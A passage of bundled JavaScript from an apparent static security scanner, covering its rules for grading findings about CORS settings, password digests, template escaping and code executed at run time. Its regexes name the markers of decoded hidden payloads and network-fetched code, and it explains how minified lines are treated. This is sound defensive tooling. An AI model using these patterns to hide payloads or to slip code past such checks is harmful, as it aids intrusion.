    const inner = (0,flow_syntax/* kindOf */.I)(value) === 'parenthesized_expression' ? (0,flow_syntax/* named */.KT)(value)[0] : value;
    const part = index === null ? inner : (0,flow_syntax/* kindOf */.I)(inner) === 'tuple' ? (0,flow_syntax/* named */.KT)(inner)[index] : undefined;
    return part !== undefined && (0,flow_syntax/* kindOf */.I)(part) === 'call' && DUMPS.test(part.field('function')?.text() ?? '');
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/module-load-code.js


const HOLE = '\u0000';
// The whole code string: one module load of one quoted spliced path, nothing before or after it.
const LOAD_ONLY = new RegExp(`^\\s*(?:await\\s+)?(?:import|require)\\(\\s*(["'\`])${HOLE}\\1\\s*\\)\\s*;?\\s*$`);
// A path-module call: `path.join`, `path.resolve`, `path.posix.join`, or the bare imported names.
const PATH_CALL = /^(path(\.posix|\.win32)?\.)?(join|resolve)$/;
// Its last argument, a literal naming a JavaScript module file of the program.
const MODULE_FILE = /^(['"])[^'"$`]*\.[cm]?js\1$/;
/**
 * The path `code` (the evaluated code's node) splices into a code string that only loads a module,
 * or undefined when the code does anything else or is not built of one template or `+` chain.
 */
function loadedModulePath(code) {
    let parts;
    if ((0,flow_syntax/* kindOf */.I)(code) === 'template_string')
        parts = (0,flow_syntax/* named */.KT)(code);
    else if ((0,flow_syntax/* kindOf */.I)(code) === 'binary_expression')
        parts = concatenated(code);
    else
        return undefined;
    const holes = parts.filter((p) => !['string_fragment', 'string', 'escape_sequence'].includes((0,flow_syntax/* kindOf */.I)(p)));
    if (holes.length !== 1)
        return undefined;
    const text = parts
        .map((p) => (p === holes[0] ? HOLE : (0,flow_syntax/* kindOf */.I)(p) === 'string' ? p.text().slice(1, -1) : p.text()))
        .join('');
    if (!LOAD_ONLY.test(text))
        return undefined;
    const hole = holes[0];
    return (0,flow_syntax/* kindOf */.I)(hole) === 'template_substitution' ? (0,flow_syntax/* named */.KT)(hole)[0] : hole;
}
// The operands of a `+` chain, left to right.
function concatenated(node) {
    if ((0,flow_syntax/* kindOf */.I)(node) !== 'binary_expression' || node.field('operator')?.text() !== '+')
        return [node];
    const left = node.field('left');
    const right = node.field('right');
    return left && right ? [...concatenated(left), ...concatenated(right)] : [node];
}
/**
 * Whether `path` (the spliced node) is a fixed module file of the program: a path-module call whose
 * last argument is a literal `.js` file, or a name every definition of which, in its function (or the
 * module), is such a call or a rewrite of the name itself.
 */
function isFixedModuleFile(path, language) {
    if ((0,flow_syntax/* kindOf */.I)(path) !== 'identifier')
        return isModuleFileCall(path);
    const scope = new FlowScope(flow_syntax/* FLOW_SYNTAX */.du[language]);
    const fn = path.ancestors().find((a) => flow_syntax/* FLOW_SYNTAX */.du[language].functions.includes((0,flow_syntax/* kindOf */.I)(a))) ??
        path.getRoot().root();
    const name = path.text();
    const defs = scope.definitions(fn, name);
    const fixed = defs.filter((d) => isModuleFileCall(d.value));
    return fixed.length > 0 && defs.every((d) => fixed.includes(d) || rewritesItself(d.value, name));
}
function isModuleFileCall(node) {
    if ((0,flow_syntax/* kindOf */.I)(node) !== 'call_expression')
        return false;
    const args = (0,flow_syntax/* named */.KT)(node.field('arguments'));
    const last = args[args.length - 1];
    return (PATH_CALL.test(node.field('function')?.text() ?? '') &&
        args.length >= 2 &&
        last !== undefined &&
        (0,flow_syntax/* kindOf */.I)(last) === 'string' &&
        MODULE_FILE.test(last.text()));
}
// Text a rewrite may add to the path: a URL scheme, separators, a file name; never a quote, a
// bracket or a semicolon, which would end the `import("\u2026")` and run code after it.
const PATH_TEXT = /^(['"])[\w:/\\.@-]*\1$/;
// `"file:///" + modPath.replace(/\\/g, "/")`: path-like literals, method names and the name itself only.
function rewritesItself(value, name) {
    const names = value.findAll({ rule: { kind: 'identifier' } });
    if ((0,flow_syntax/* kindOf */.I)(value) === 'identifier')
        names.push(value);
    const texts = value.findAll({ rule: { any: [{ kind: 'string' }, { kind: 'template_string' }] } });
    return (names.length > 0 && names.every((n) => n.text() === name) && texts.every((t) => PATH_TEXT.test(t.text())));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/cors-origins.js
// Where a Python file can set the app's `CORS_ORIGINS`: a module constant (a config object or
// settings module), `app.config["CORS_ORIGINS"] = \u2026`, a dict entry, or `config.update(CORS_ORIGINS=\u2026)`.
const SETTING = /^['"]?CORS_ORIGINS['"]?$/;
// A Flask config object, and the calls that fill one from a mapping or keywords.
const CONFIG = /(^|\.)config$/;
const CONFIG_CALL = /(^|\.)config\.(update|from_mapping)$/;
/** The grade of a flask-cors call with credentials, given the file around it. */
function corsOriginsGrade(severity, node) {
    const args = node.field('arguments');
    const origins = args
        ?.children()
        .find((a) => a.kind() === 'keyword_argument' && /^(origins|resources)$/.test(a.field('name')?.text() ?? ''));
    if (origins)
        return undefined;
    const settings = settingValues(node.getRoot().root());
    const kinds = settings.map((s) => originsKind(s.value));
    if (kinds.includes('any'))
        return undefined;
    if (settings.some((s) => s.config) && kinds.every((k) => k === 'listed'))
        return { keep: false };
    return {
        keep: true,
        severity: severity === 'critical' || severity === 'high' ? 'medium' : severity,
        detail: 'Severity medium: the call names no `origins`, so flask-cors takes them from the app\'s `CORS_ORIGINS` setting, and where that is unset from its default `"*"`, which with credentials answers every caller\'s Origin. Check that the setting lists the allowed origins, or name them here.',
    };
}
/**
 * The values this file gives `CORS_ORIGINS`, and whether each is written into a Flask config
 * (`app.config["CORS_ORIGINS"] = \u2026`, `app.config.update(CORS_ORIGINS=\u2026)`, a dict handed to
 * `update` or `from_mapping`). A module constant counts only as a wildcard: whether Flask reads the
 * module (`from_object`) is not in the file, and a decoy constant must not silence the call.
 */
function settingValues(root) {
    const values = [];
    for (const a of root.findAll({ rule: { kind: 'assignment' } })) {
        const left = a.field('left');
        const subscript = left?.kind() === 'subscript';
        const key = subscript ? left?.field('subscript') : left;
        const right = a.field('right');
        if (key && right && SETTING.test(key.text()))
            values.push({ value: right, config: subscript && CONFIG.test(left?.field('value')?.text() ?? '') });
    }
    for (const p of root.findAll({ rule: { any: [{ kind: 'pair' }, { kind: 'keyword_argument' }] } })) {
        const key = p.field(p.kind() === 'pair' ? 'key' : 'name');
        const value = p.field('value');
        if (!key || !value || !SETTING.test(key.text()))
            continue;
        const list = p.kind() === 'pair' ? p.parent()?.parent() : p.parent();
        const call = list?.kind() === 'argument_list' ? list.parent() : null;
        values.push({ value, config: CONFIG_CALL.test(call?.field('function')?.text() ?? '') });
    }
    return values;
}
/**
 * `listed` for literal origins without a wildcard (flask-cors takes each as a pattern: a `*` in one
 * matches any host), `any` for a wildcard among them, `unknown` for a value read elsewhere.
 */
function originsKind(value) {
    const items = ['list', 'tuple', 'set'].includes(String(value.kind()))
        ? value.children().filter((c) => c.isNamed() && c.kind() !== 'comment')
        : [value];
    if (items.some((i) => i.kind() === 'string' && i.text().includes('*')))
        return 'any';
    return items.length > 0 && items.every((i) => i.kind() === 'string' && !/[{}]/.test(i.text()))
        ? 'listed'
        : 'unknown';
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/password-digest-sent.js
// A call's URL argument that names a web address: a literal, or a name for a URL or an endpoint.
const WEB_ADDRESS = /^[rbfu]*['"]https?:\/\/|\b\w*(?:url|endpoint)\b/i;
// Methods that keep a digest a digest: `.hexdigest()`, `.digest()`, `.upper()`, `.encode()`.
const DIGEST_METHOD = /^(hexdigest|digest|upper|lower|encode|decode|strip)$/;
// A hash taken of the digest (`hashlib.sha1(md5_hex.encode())`): the outer one is what goes on.
const HASH_FUNCTION = /^(?:hashlib\.)?(?:md5|sha1|sha224|sha256|sha384|sha512|blake2[bs])$/;
/** Whether the digest the rule matched is only sent to a remote API in a request. */
function digestSentToApi(node) {
    const digest = digestExpression(node);
    const holder = digest.parent();
    if (holder?.kind() === 'assignment')
        return keptForRequest(digest, holder);
    if (holder?.kind() === 'keyword_argument') {
        const call = holder.parent()?.parent();
        return call?.kind() === 'call' && isWebRequest(call);
    }
    if (holder?.kind() !== 'pair' || holder.field('value')?.id() !== digest.id())
        return false;
    const dict = holder.parent();
    if (dict?.kind() !== 'dictionary')
        return false;
    return requestsTaking(dict);
}
/**
 * Whether `digest`, assigned by `assignment` under a string key, is read back in the file only to be
 * sent: at least one read, every read sent, and the dict it is kept in not used whole in the function.
 */
function keptForRequest(digest, assignment) {
    const target = assignment.field('left');
    const key = stringKey(target);
    if (assignment.field('right')?.id() !== digest.id() || key === undefined)
        return false;
    const dict = target?.field('value');
    const fn = assignment.ancestors().find((a) => a.kind() === 'function_definition');
    if (dict?.kind() !== 'identifier' || !fn)
        return false;
    // `def signin(self, user, password, data)` names it; `db.save(data)` would store it whole.
    const named = new Set(['parameters', 'typed_parameter', 'default_parameter', 'typed_default_parameter']);
    const whole = identifierUses(fn, dict.text()).some((u) => u.parent()?.kind() !== 'subscript' && !named.has(String(u.parent()?.kind())));
    if (whole)
        return false;
    const reads = digest
        .getRoot()
        .root()
        .findAll({ rule: { kind: 'subscript' } })
        .filter((s) => stringKey(s) === key && !isAssignedTo(s));
    return reads.length > 0 && reads.every(sentRead);
}
/** The key of `x["key"]` (a plain string, no f-string), else undefined. */
function stringKey(node) {
    const index = node?.kind() === 'subscript' ? node.field('subscript') : null;
    if (index?.kind() !== 'string' || index.children().some((c) => c.kind() === 'interpolation'))
        return undefined;
    return index.text().replace(/^[rbu]*(['"])(.*)\1$/i, '$2');
}
/** Whether `node` is the target of an assignment (`x["k"] = v`), not a read. */
function isAssignedTo(node) {
    const parent = node.parent();
    return parent?.kind() === 'assignment' && parent.field('left')?.id() === node.id();
}
/**
 * Whether a read of the kept digest goes only into a request: a value of a dict or an argument that
 * is sent, or the value put into another dict (`query["password"] = \u2026`) that is then only sent.
 */
function sentRead(read) {
    const parent = read.parent();
    if (parent?.kind() === 'pair' && parent.field('value')?.id() === read.id())
        return parent.parent()?.kind() === 'dictionary' && requestsTaking(parent.parent());
    const call = callTaking(read);
    if (call)
        return isWebRequest(call);
    if (parent?.kind() !== 'assignment' || parent.field('right')?.id() !== read.id())
        return false;
    const dict = parent.field('left')?.field('value');
    const fn = parent.ancestors().find((a) => a.kind() === 'function_definition');
    return dict?.kind() === 'identifier' && fn !== undefined && sentAfter(dict.text(), fn, parent);
}
/**
 * The match with the digest methods called on it (`hashlib.md5(p.encode()).hexdigest()`), and with
 * the hashes it is the only input of: `sha1(md5(p).hexdigest().encode())` sends the outer digest.
 */
function digestExpression(node) {
    let current = node;
    for (;;) {
        const outer = methodCalled(current) ?? hashedAgain(current);
        if (!outer)
            return current;
        current = outer;
    }
}
/** `x.hexdigest()` for `x`, with a method of DIGEST_METHOD. */
function methodCalled(node) {
    const attribute = node.parent();
    const call = attribute?.parent();
    if (attribute?.kind() !== 'attribute' ||
        attribute.field('object')?.id() !== node.id() ||
        !DIGEST_METHOD.test(attribute.field('attribute')?.text() ?? '') ||
        call?.kind() !== 'call')
        return undefined;
    return call;
}
/** `hashlib.sha1(x)` for `x`, its only argument. */
function hashedAgain(node) {
    const list = node.parent();
    const call = list?.parent();
    if (list?.kind() !== 'argument_list' || call?.kind() !== 'call')
        return undefined;
    const args = list.children().filter((c) => c.isNamed() && c.kind() !== 'comment');
    const hash = HASH_FUNCTION.test(call.field('function')?.text() ?? '');
    return hash && args.length === 1 ? call : undefined;
}
/** Whether a dict literal reaches a web request: as an argument, or through the variable it is assigned to. */
function requestsTaking(dict) {
    const direct = callTaking(dict);
    if (direct)
        return isWebRequest(direct);
    const assignment = dict.parent();
    const name = assignment?.kind() === 'assignment' ? assignment.field('left') : null;
    if (assignment?.field('right')?.id() !== dict.id() || name?.kind() !== 'identifier')
        return false;
    const fn = assignment.ancestors().find((a) => a.kind() === 'function_definition');
    return fn !== undefined && sentAfter(name.text(), fn, dict);
}
/**
 * Whether the dict named `name` is sent after `from` in `fn` and only filled in otherwise
 * (`post.update(kwargs)`, `post["k"] = v`): a dict also stored, returned or handed elsewhere is not
 * only the request's. `return post` counts as sent when every call of `fn` in the file is sent.
 */
function sentAfter(name, fn, from) {
    const uses = identifierUses(fn, name).filter((u) => u.range().start.index > from.range().end.index);
    let sent = false;
    for (const use of uses) {
        const call = callTaking(use);
        if (call && isWebRequest(call))
            sent = true;
        else if (use.parent()?.kind() === 'return_statement' && callsAllSent(fn))
            sent = true;
        else if (!fillsIn(use))
            return false;
    }
    return sent;
}
/** Whether `fn` is called in its file, and every call (`self.fn()`, `fn()`) is sent in a web request. */
function callsAllSent(fn) {
    const name = fn.field('name')?.text();
    if (!name)
        return false;
    const calls = fn
        .getRoot()
        .root()
        .findAll({ rule: { kind: 'call', has: { field: 'function', regex: `^(?:\\w+\\.)?${name}$` } } });
    return (calls.length > 0 &&
        calls.every((c) => {
            const request = callTaking(c);
            return request !== undefined && isWebRequest(request);
        }));
}
/** The uses of the identifier `name` in `fn`, not a keyword argument's name (`load(url, post=\u2026)`). */
function identifierUses(fn, name) {
    return fn.findAll({ rule: { kind: 'identifier', regex: `^${name}$` } }).filter((u) => !isKeywordName(u));
}
/** `post.update(\u2026)` or `post[key] = \u2026`: the dict filled in, not sent anywhere. */
function fillsIn(use) {
    const parent = use.parent();
    if (parent?.kind() === 'attribute' && parent.field('object')?.id() === use.id())
        return parent.field('attribute')?.text() === 'update' && parent.parent()?.kind() === 'call';
    return (parent?.kind() === 'subscript' &&
        parent.field('value')?.id() === use.id() &&
        parent.parent()?.kind() === 'assignment' &&
        parent.parent()?.field('left')?.id() === parent.id());
}
/** `post` in `load(url, post=\u2026)`: the keyword's name, not a use of the variable. */
function isKeywordName(node) {
    const parent = node.parent();
    return parent?.kind() === 'keyword_argument' && parent.field('name')?.id() === node.id();
}
/**
 * The call that takes `value` as an argument (positional or by keyword), directly or serialised by a
 * call whose only argument it is (`json.dumps(post)`, `urlencode(post)`).
 */
function callTaking(value) {
    let arg = value;
    for (let hops = 0; hops < 2; hops++) {
        const list = arg.parent()?.kind() === 'keyword_argument' ? arg.parent()?.parent() : arg.parent();
        const call = list?.kind() === 'argument_list' ? list.parent() : null;
        if (!list || call?.kind() !== 'call')
            return undefined;
        if (isWebRequest(call))
            return call;
        const args = list.children().filter((c) => c.isNamed() && c.kind() !== 'comment');
        if (args.length !== 1)
            return call;
        arg = call;
    }
    return undefined;
}
/** Whether a call's URL argument (its first positional argument, or `url=`) names a web address. */
function isWebRequest(call) {
    const args = call.field('arguments')?.children() ?? [];
    const url = args.find((a) => a.kind() === 'keyword_argument' && a.field('name')?.text() === 'url')?.field('value') ??
        args.find((a) => a.isNamed() && !['keyword_argument', 'comment'].includes(String(a.kind())));
    return url !== undefined && url !== null && WEB_ADDRESS.test(url.text());
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/explicit-discard.js
// The reads of the rule's read-modify-write branch: a dropped decode whose value is written back.
const READ = /\b(Unmarshal|Decode)\s*\(/;
/** Low for an error dropped out loud; undefined (the rule's grade) for a read-modify-write. */
function explicitDiscardGrade(node) {
    if (READ.test(node.field('right')?.text() ?? ''))
        return undefined;
    return {
        keep: true,
        severity: 'low',
        detail: 'Severity low: `_ =` says the error is ignored on purpose (errcheck accepts it by default); check that losing this write unnoticed is acceptable, or say why in a comment.',
    };
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/settings-default.js
// The shared module of a settings package; the package is a folder named settings, config or conf.
const SHARED = /(^|\/)(settings|config|conf)\/(base|common|shared|defaults?)\.py$/i;
// A config class for tests or a developer's machine, by name or by the flag Flask's testing reads.
const DEV_CLASS = /^(Test|Testing|Dev|Develop|Development|CI|E2E|Debug)([A-Z_]\w*)?$/;
/** Whether the match is a settings module's or a test config class's default, not a deployment's. */
function settingsDefault(node, path) {
    // Only a constant of its own: `app.secret_key = \u2026` or a JWT key in such a module still reports.
    if (node.kind() !== 'assignment' || node.field('left')?.kind() !== 'identifier')
        return false;
    const statement = node.parent();
    const scope = statement?.parent();
    if (!scope)
        return false;
    if (scope.kind() === 'module')
        return SHARED.test(path);
    const cls = scope.kind() === 'block' ? scope.parent() : null;
    if (cls?.kind() !== 'class_definition')
        return false;
    if (DEV_CLASS.test(cls.field('name')?.text() ?? ''))
        return true;
    return scope.children().some((s) => /^TESTING\s*=\s*True$/.test(s.text().trim()));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/html-output.js



// What makes a template's output a page: a view engine, a response, the DOM, an HTML name or type.
const HTML_OUTPUT = {
    js: /\b(res|reply|response|ctx)\.(render|send|write|end|view|body)\b|\b(app|server)\.(engine|set)\(\s*['"](view engine|views|html)|\bexpress\b|\bkoa\b|\bfastify\b|\b(inner|outer)HTML\b|insertAdjacentHTML|document\.write|text\/html|\.(html?|hbs|handlebars|njk|swig|ejs)['"`]/,
    python: /\b(render_template\w*|render_to_string|render_to_response|HttpResponse|TemplateResponse|make_response)\b|text\/html|select_autoescape|\.(html?|jinja2?|j2)['"]|^\s*(from|import)\s+(flask|django|fastapi|starlette|aiohttp|tornado|bottle|pyramid)\b/m,
};
/**
 * The grade of a template rendered with escaping off (`sink-context: html-output`): undefined (the
 * rule's own) where the file shows its output becoming a page, no finding where the text stays in the
 * function that renders it and the file holds no markup, medium elsewhere.
 */
function htmlOutput(rule, node, language) {
    const file = node.getRoot().root().text();
    const html = language === 'python' ? HTML_OUTPUT.python : HTML_OUTPUT.js;
    if ((0,entry_points/* servesRequests */.Hu)(file, language) || html.test(file))
        return undefined;
    if (language !== 'python' && !rendersHere(node, file))
        return undefined;
    // Output the function uses itself (a chat message, a device value, a formula), hands on to no
    // caller, and the file writes no markup in: the code shows where the text goes and it is never a
    // page, so escaping (a defence of HTML output only) is not missing: no finding (issue 45 point 3).
    // Returned, it may become a page: medium.
    if (language !== 'python' && !MARKUP.test(file) && consumedHere(node))
        return { keep: false };
    const severity = milder(rule.severity, 'medium');
    return {
        keep: true,
        severity,
        detail: `Severity ${severity}: this file renders the template itself and nothing in it shows the output becoming ` +
            'a page (no request handler, view engine, response, DOM write or HTML template), and escaping guards HTML ' +
            'output only: text for a message, a mail subject, a log or LaTeX must not be HTML-escaped.' +
            ' It is high where the output is HTML.',
    };
}
// A call whose name says it takes markup: what is passed to it is a page (or an HTML mail).
const MARKUP_CALL = /html|markup|render|page|view/i;
// A tag in the file's text (`<p>`, `<a href`, `</div>`): a template or its surroundings writing markup.
const MARKUP = /<\/?[a-zA-Z][\w-]*(?:\s[^<>]*)?\/?>/;
/**
 * Whether the text a template renders in place stays in the function that renders it: every render
 * (`compile(text, opts)(scope)`, or `t(scope)` through the name `t` the compiled template is given)
 * is an argument of a call or the value of a variable, and neither the render nor that variable is
 * what the function returns (`return value` hands it to callers, who may put it in a page;
 * `return send(value)` does not). A render the shape of which this cannot follow is not.
 */
function consumedHere(node) {
    const compile = node.ancestors().find((a) => ['call_expression', 'new_expression'].includes((0,flow_syntax/* kindOf */.I)(a)));
    const parent = compile?.parent();
    if (!compile || !parent)
        return false;
    const fn = compile.ancestors().find((a) => flow_syntax/* FLOW_SYNTAX */.du.javascript.functions.includes((0,flow_syntax/* kindOf */.I)(a)));
    if (!fn)
        return false;
    let renders;
    if ((0,flow_syntax/* kindOf */.I)(parent) === 'call_expression' && parent.field('function')?.id() === compile.id())
        renders = [parent];
    else if ((0,flow_syntax/* kindOf */.I)(parent) === 'variable_declarator') {
        const name = parent.field('name')?.text() ?? '';
        if (!/^[\w$]+$/.test(name))
            return false;
        renders = fn.findAll({
            rule: { kind: 'call_expression', has: { field: 'function', regex: `^${name.replace(/\$/g, '\\$')}$` } },
        });
        // Used other than called (`return template`, `module.exports = template`), it is handed on.
        const uses = node
            .getRoot()
            .root()
            .findAll({ rule: { kind: 'identifier', regex: `^${name.replace(/\$/g, '\\$')}$` } });
        if (uses.length !== renders.length + 1)
            return false;
    }
    else
        return false;
    return renders.length > 0 && renders.every((r) => stays(r, fn));
}
/**
 * Whether one render's text is a call's argument or a variable's value (or an entry of a local
 * object, `headers[key] = \u2026`) that the function does not return; a branch of a conditional
 * (`body ? render(\u2026) : undefined`) is looked through. Not an argument of a call named for markup
 * (`sendHtml(\u2026)`, `renderPage(\u2026)`): that output is a page.
 */
function stays(render, fn) {
    // `compile(\u2026)(scope).replace(/\s/g, '')`: a method of the text, whose result is looked at instead.
    let value = render;
    for (let up = value.parent(); up && (0,flow_syntax/* kindOf */.I)(up) === 'member_expression'; up = value.parent()) {
        const call = up.parent();
        if (!call || (0,flow_syntax/* kindOf */.I)(call) !== 'call_expression')
            return false;
        value = call;
    }
    let holder = value.parent();
    while (holder && ['ternary_expression', 'parenthesized_expression'].includes((0,flow_syntax/* kindOf */.I)(holder))) {
        if ((0,flow_syntax/* kindOf */.I)(holder) === 'ternary_expression' && holder.field('condition')?.id() === value.id())
            return false;
        value = holder;
        holder = value.parent();
    }
    if (!holder)
        return false;
    if ((0,flow_syntax/* kindOf */.I)(holder) === 'arguments')
        return !MARKUP_CALL.test(holder.parent()?.field('function')?.text() ?? '');
    const left = ((0,flow_syntax/* kindOf */.I)(holder) === 'assignment_expression' ? holder.field('left') : null) ?? undefined;
    const entry = left !== undefined && ['subscript_expression', 'member_expression'].includes((0,flow_syntax/* kindOf */.I)(left));
    const name = (0,flow_syntax/* kindOf */.I)(holder) === 'variable_declarator'
        ? holder.field('name')?.text()
        : left && holder.field('right')?.id() === value.id()
            ? entry
                ? left.field('object')?.text()
                : left.text()
            : undefined;
    if (name === undefined || !/^[\w$]+$/.test(name))
        return false;
    // An entry of an object the function declares itself, or a function around it does (a callback
    // filling the outer function's `headers` in a `forEach`: Gladys's scene HTTP action, fresh9); a
    // parameter's or `this`'s reaches others. The declaring function must not return it either.
    const owner = entry ? declaringFunction(fn, name) : fn;
    if (!owner)
        return false;
    return !owner.findAll({ rule: { kind: 'return_statement' } }).some((r) => returnsName(r, name));
}
/**
 * The function that declares `name` as a variable of its own (`const headers = {}`): `fn` or one of
 * the functions it is nested in, the nearest first; undefined when none does.
 */
function declaringFunction(fn, name) {
    const exactly = `^${name.replace(/\$/g, '\\$')}$`;
    const functions = [fn, ...fn.ancestors()].filter((a) => flow_syntax/* FLOW_SYNTAX */.du.javascript.functions.includes((0,flow_syntax/* kindOf */.I)(a)));
    return functions.find((f) => f.find({ rule: { kind: 'variable_declarator', has: { field: 'name', regex: exactly } } }) !== null);
}
/** Whether a return statement hands on the variable's text: itself, or in a template, not as a call's argument. */
function returnsName(ret, name) {
    return ret
        .findAll({ rule: { kind: 'identifier', regex: `^${name.replace(/\$/g, '\\$')}$` } })
        .some((id) => !id
        .ancestors()
        .some((a) => (0,flow_syntax/* kindOf */.I)(a) === 'arguments' && a.range().start.index > ret.range().start.index));
}
/**
 * Whether a JavaScript file renders the template whose options hold `node` itself: the compiled
 * template called in place (`Handlebars.compile(text, opts)(scope)`, Gladys), or through the name
 * it is given, or an environment's `render`/`renderString` called in the file. Otherwise the setting
 * is an engine's default for the app's views (`swig.setDefaults`) or a template handed to callers,
 * whose output the file does not show: a view engine's output is a page, so it stays high.
 */
function rendersHere(node, file) {
    if (/\.render(String)?\s*\(/.test(file))
        return true;
    const call = node.ancestors().find((a) => ['call_expression', 'new_expression'].includes((0,flow_syntax/* kindOf */.I)(a)));
    const parent = call?.parent();
    if (!call || !parent)
        return false;
    if ((0,flow_syntax/* kindOf */.I)(parent) === 'call_expression' && parent.field('function')?.id() === call.id())
        return true;
    const name = (0,flow_syntax/* kindOf */.I)(parent) === 'variable_declarator' ? parent.field('name')?.text() : undefined;
    return (name !== undefined &&
        /^[\w$]+$/.test(name) &&
        new RegExp(`\\b${name.replace(/\$/g, '\\$')}\\s*\\(`).test(file));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/sink-context.js














// Text decoded at run time: base64, char codes, URI decoding, `Buffer.from(x, 'base64')`, or a run
// of escapes spelling text out (one `\u00A0` in a library's regex is no payload; eight in a row are).
const DECODED = /\b(atob|unescape|decodeURIComponent|decodeURI|fromCharCode|fromCodePoint|b64decode|base64\.\w*decode\w*|codecs\.decode|bytes\.fromhex|zlib\.\w*(inflate|decompress|gunzip)\w*)\s*\(|Buffer\.from\([^)]*['"](base64|hex|base64url)['"]|(\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}){8}/;
// Code read back from the network: fetch, XHR, an HTTP client, or a call named for a download.
const FETCHED = /\b(fetch|XMLHttpRequest|axios|got|superagent|urlopen|requests\.(get|post)|https?\.(get|request)|\$\.(get|ajax|getScript))\s*[.(]|\b\w*(fetch|download|remote)\w*\s*\(/i;
/**
 * The grade a rule's `sink-context` gives the match (in the file at `path`), or undefined when the
 * context leaves the grade to the rule (its severity, or its `flow`).
 */
function sinkContextGrade(rule, node, language, path = '') {
    if (!rule.sinkContext || !(0,languages/* isCodeLanguage */.aN)(language))
        return undefined;
    switch (rule.sinkContext) {
        case 'code':
            return runtimeCode(rule, node, language);
        case 'html-output':
            return htmlOutput(rule, node, language);
        case 'tls-peer':
            if (inspectsCertificateOnly(node, language))
                return { keep: false };
            return checkedPeer(rule, node, language) ?? loopbackPeer(rule, node, language);
        case 'own-store': {
            const value = rule.flow ? node.getMatch(rule.flow) : null;
            return value && unpicklesOwnStore(value) ? { keep: false } : undefined;
        }
        case 'cors-origins':
            return corsOriginsGrade(rule.severity, node);
        case 'digest-sent':
            return digestSentToApi(node) ? { keep: false } : undefined;
        case 'explicit-discard':
            return explicitDiscardGrade(node);
        case 'settings-default':
            return settingsDefault(node, path) ? { keep: false } : undefined;
    }
}
/**
 * The length of the match's line when it is minified, else 0. The same bound as select's
 * MINIFIED_LINE_LENGTH (tests/static/sink-context.test.ts keeps them equal): the lookalike-files stage
 * hides a match on such a line of a file that looks vendored and makes the run incomplete only when
 * it is high, so the code on it keeps the rule's grade, as a payload on one long line must not pass.
 */
const MINIFIED_LINE = 1000;
function minifiedLine(node) {
    const file = node.getRoot().root().text();
    const start = node.range().start.index;
    const from = file.lastIndexOf('\n', start - 1) + 1;
    const end = file.indexOf('\n', start);
    const length = (end < 0 ? file.length : end) - from;
    return length > MINIFIED_LINE ? length : 0;
}
/**
 * Where the code comes from, as text: the innermost function around it (the node alone at a module's
 * top level) and the part the flow grader traced it to (a module-level `const c = atob(\u2026)`). The
 * outermost function would be a whole bundled library, whose every decoder would count.
 */
function sourceText(value, language) {
    const fn = value.ancestors().find((a) => flow_syntax/* FLOW_SYNTAX */.du[language].functions.includes((0,flow_syntax/* kindOf */.I)(a)));
    return `${(fn ?? value).text()}\n${gradeFlow(value, language).because}`;
}
function runtimeCode(rule, node, language) {
    const minified = minifiedLine(node);
    if (minified)
        return {
            keep: true,
            severity: rule.severity,
            backed: true,
            detail: `Severity ${rule.severity}: it sits on a minified line (${minified} characters) no reviewer can read, so what it runs cannot be checked by eye.`,
        };
    const value = rule.flow ? node.getMatch(rule.flow) : null;
    // A request read in the code's own text (`this.req.body.code`, a controller's request) is input
    // even where the flow grader's sources, anchored at the start of a name, do not see it.
    if (value && (0,entry_points/* servesRequests */.Hu)(value.text(), language))
        return {
            keep: true,
            severity: rule.severity,
            backed: true,
            detail: `Severity ${rule.severity}: the code it runs reads a request (\`${value.text().slice(0, 60)}\`).`,
        };
    const scope = sourceText(value ?? node, language);
    const decoded = DECODED.exec(scope);
    const fetched = decoded ? null : FETCHED.exec(scope);
    const why = decoded ?? fetched;
    if (!why)
        return value ? (ownModuleLoad(value, language) ?? pageScript(rule, value, language)) : undefined;
    const what = decoded
        ? 'decoded at run time, the shape of a hidden payload'
        : 'read from the network, code downloaded and run';
    return {
        keep: true,
        severity: rule.severity,
        backed: true,
        detail: `Severity ${rule.severity}: the code it runs is ${what} (\`${why[0].trim()}\` in the same function), whatever its origin.`,
    };
}
/**
 * No finding for code that only loads a fixed module file of the program (module-load-code.ts) from a
 * root not traced to input: the risk is which module runs, and the path rules report only input too.
 */
function ownModuleLoad(value, language) {
    const path = loadedModulePath(value);
    if (!path || !isFixedModuleFile(path, language))
        return undefined;
    return gradeFlow(path, language).origin === 'input' ? undefined : { keep: false };
}
// Browser automation that runs a function in the page with the arguments after it (Puppeteer's and
// Playwright's `page.evaluate(fn, ...args)`, `evaluateHandle`): the function's parameters hold them.
const IN_PAGE = /\.(evaluate|evaluateHandle|evaluateOnNewDocument)$/;
/**
 * The code of a function run in a browser page, when it is that function's parameter: graded by the
 * argument the automation call passes for it (maxun's `page.evaluate((script) => eval(script),
 * scriptContent)` with the app's own script file read from `__dirname`, fresh10), by the reach
 * policy every flow rule follows: constants no finding, the app's own paths low, untraced medium.
 */
function pageScript(rule, value, language) {
    if ((0,flow_syntax/* kindOf */.I)(value) !== 'identifier')
        return undefined;
    const fn = value.ancestors().find((a) => flow_syntax/* FLOW_SYNTAX */.du[language].functions.includes((0,flow_syntax/* kindOf */.I)(a)));
    const args = fn?.parent();
    const call = args?.parent();
    if (!fn || !args || !call || (0,flow_syntax/* kindOf */.I)(call) !== 'call_expression' || (0,flow_syntax/* named */.KT)(args)[0]?.id() !== fn.id())
        return undefined;
    if (!IN_PAGE.test(call.field('function')?.text() ?? ''))
        return undefined;
    const params = (0,flow_syntax/* named */.KT)(fn.field('parameters') ?? fn.field('parameter'));
    const position = params.findIndex((p) => ((0,flow_syntax/* kindOf */.I)(p) === 'identifier' ? p : (0,flow_syntax/* named */.KT)(p)[0])?.text() === value.text());
    const passed = position < 0 ? undefined : (0,flow_syntax/* named */.KT)(args)[position + 1];
    if (!passed)
        return undefined;
    const graded = gradeFlow(passed, language);
    // The same table as every flow rule's (flow/reach-policy.ts), in the app's own code.
    // The program's own state is no exit for code run in a page (grade-match.ts keeps it for commands).
    const source = sourceOf(graded, value.getRoot().root().text(), language);
    const grade = gradeByReach(rule.severity, source === 'own-state' ? 'untraced' : source, 'app');
    if (!grade)
        return { keep: false };
    return {
        keep: true,
        severity: grade.severity,
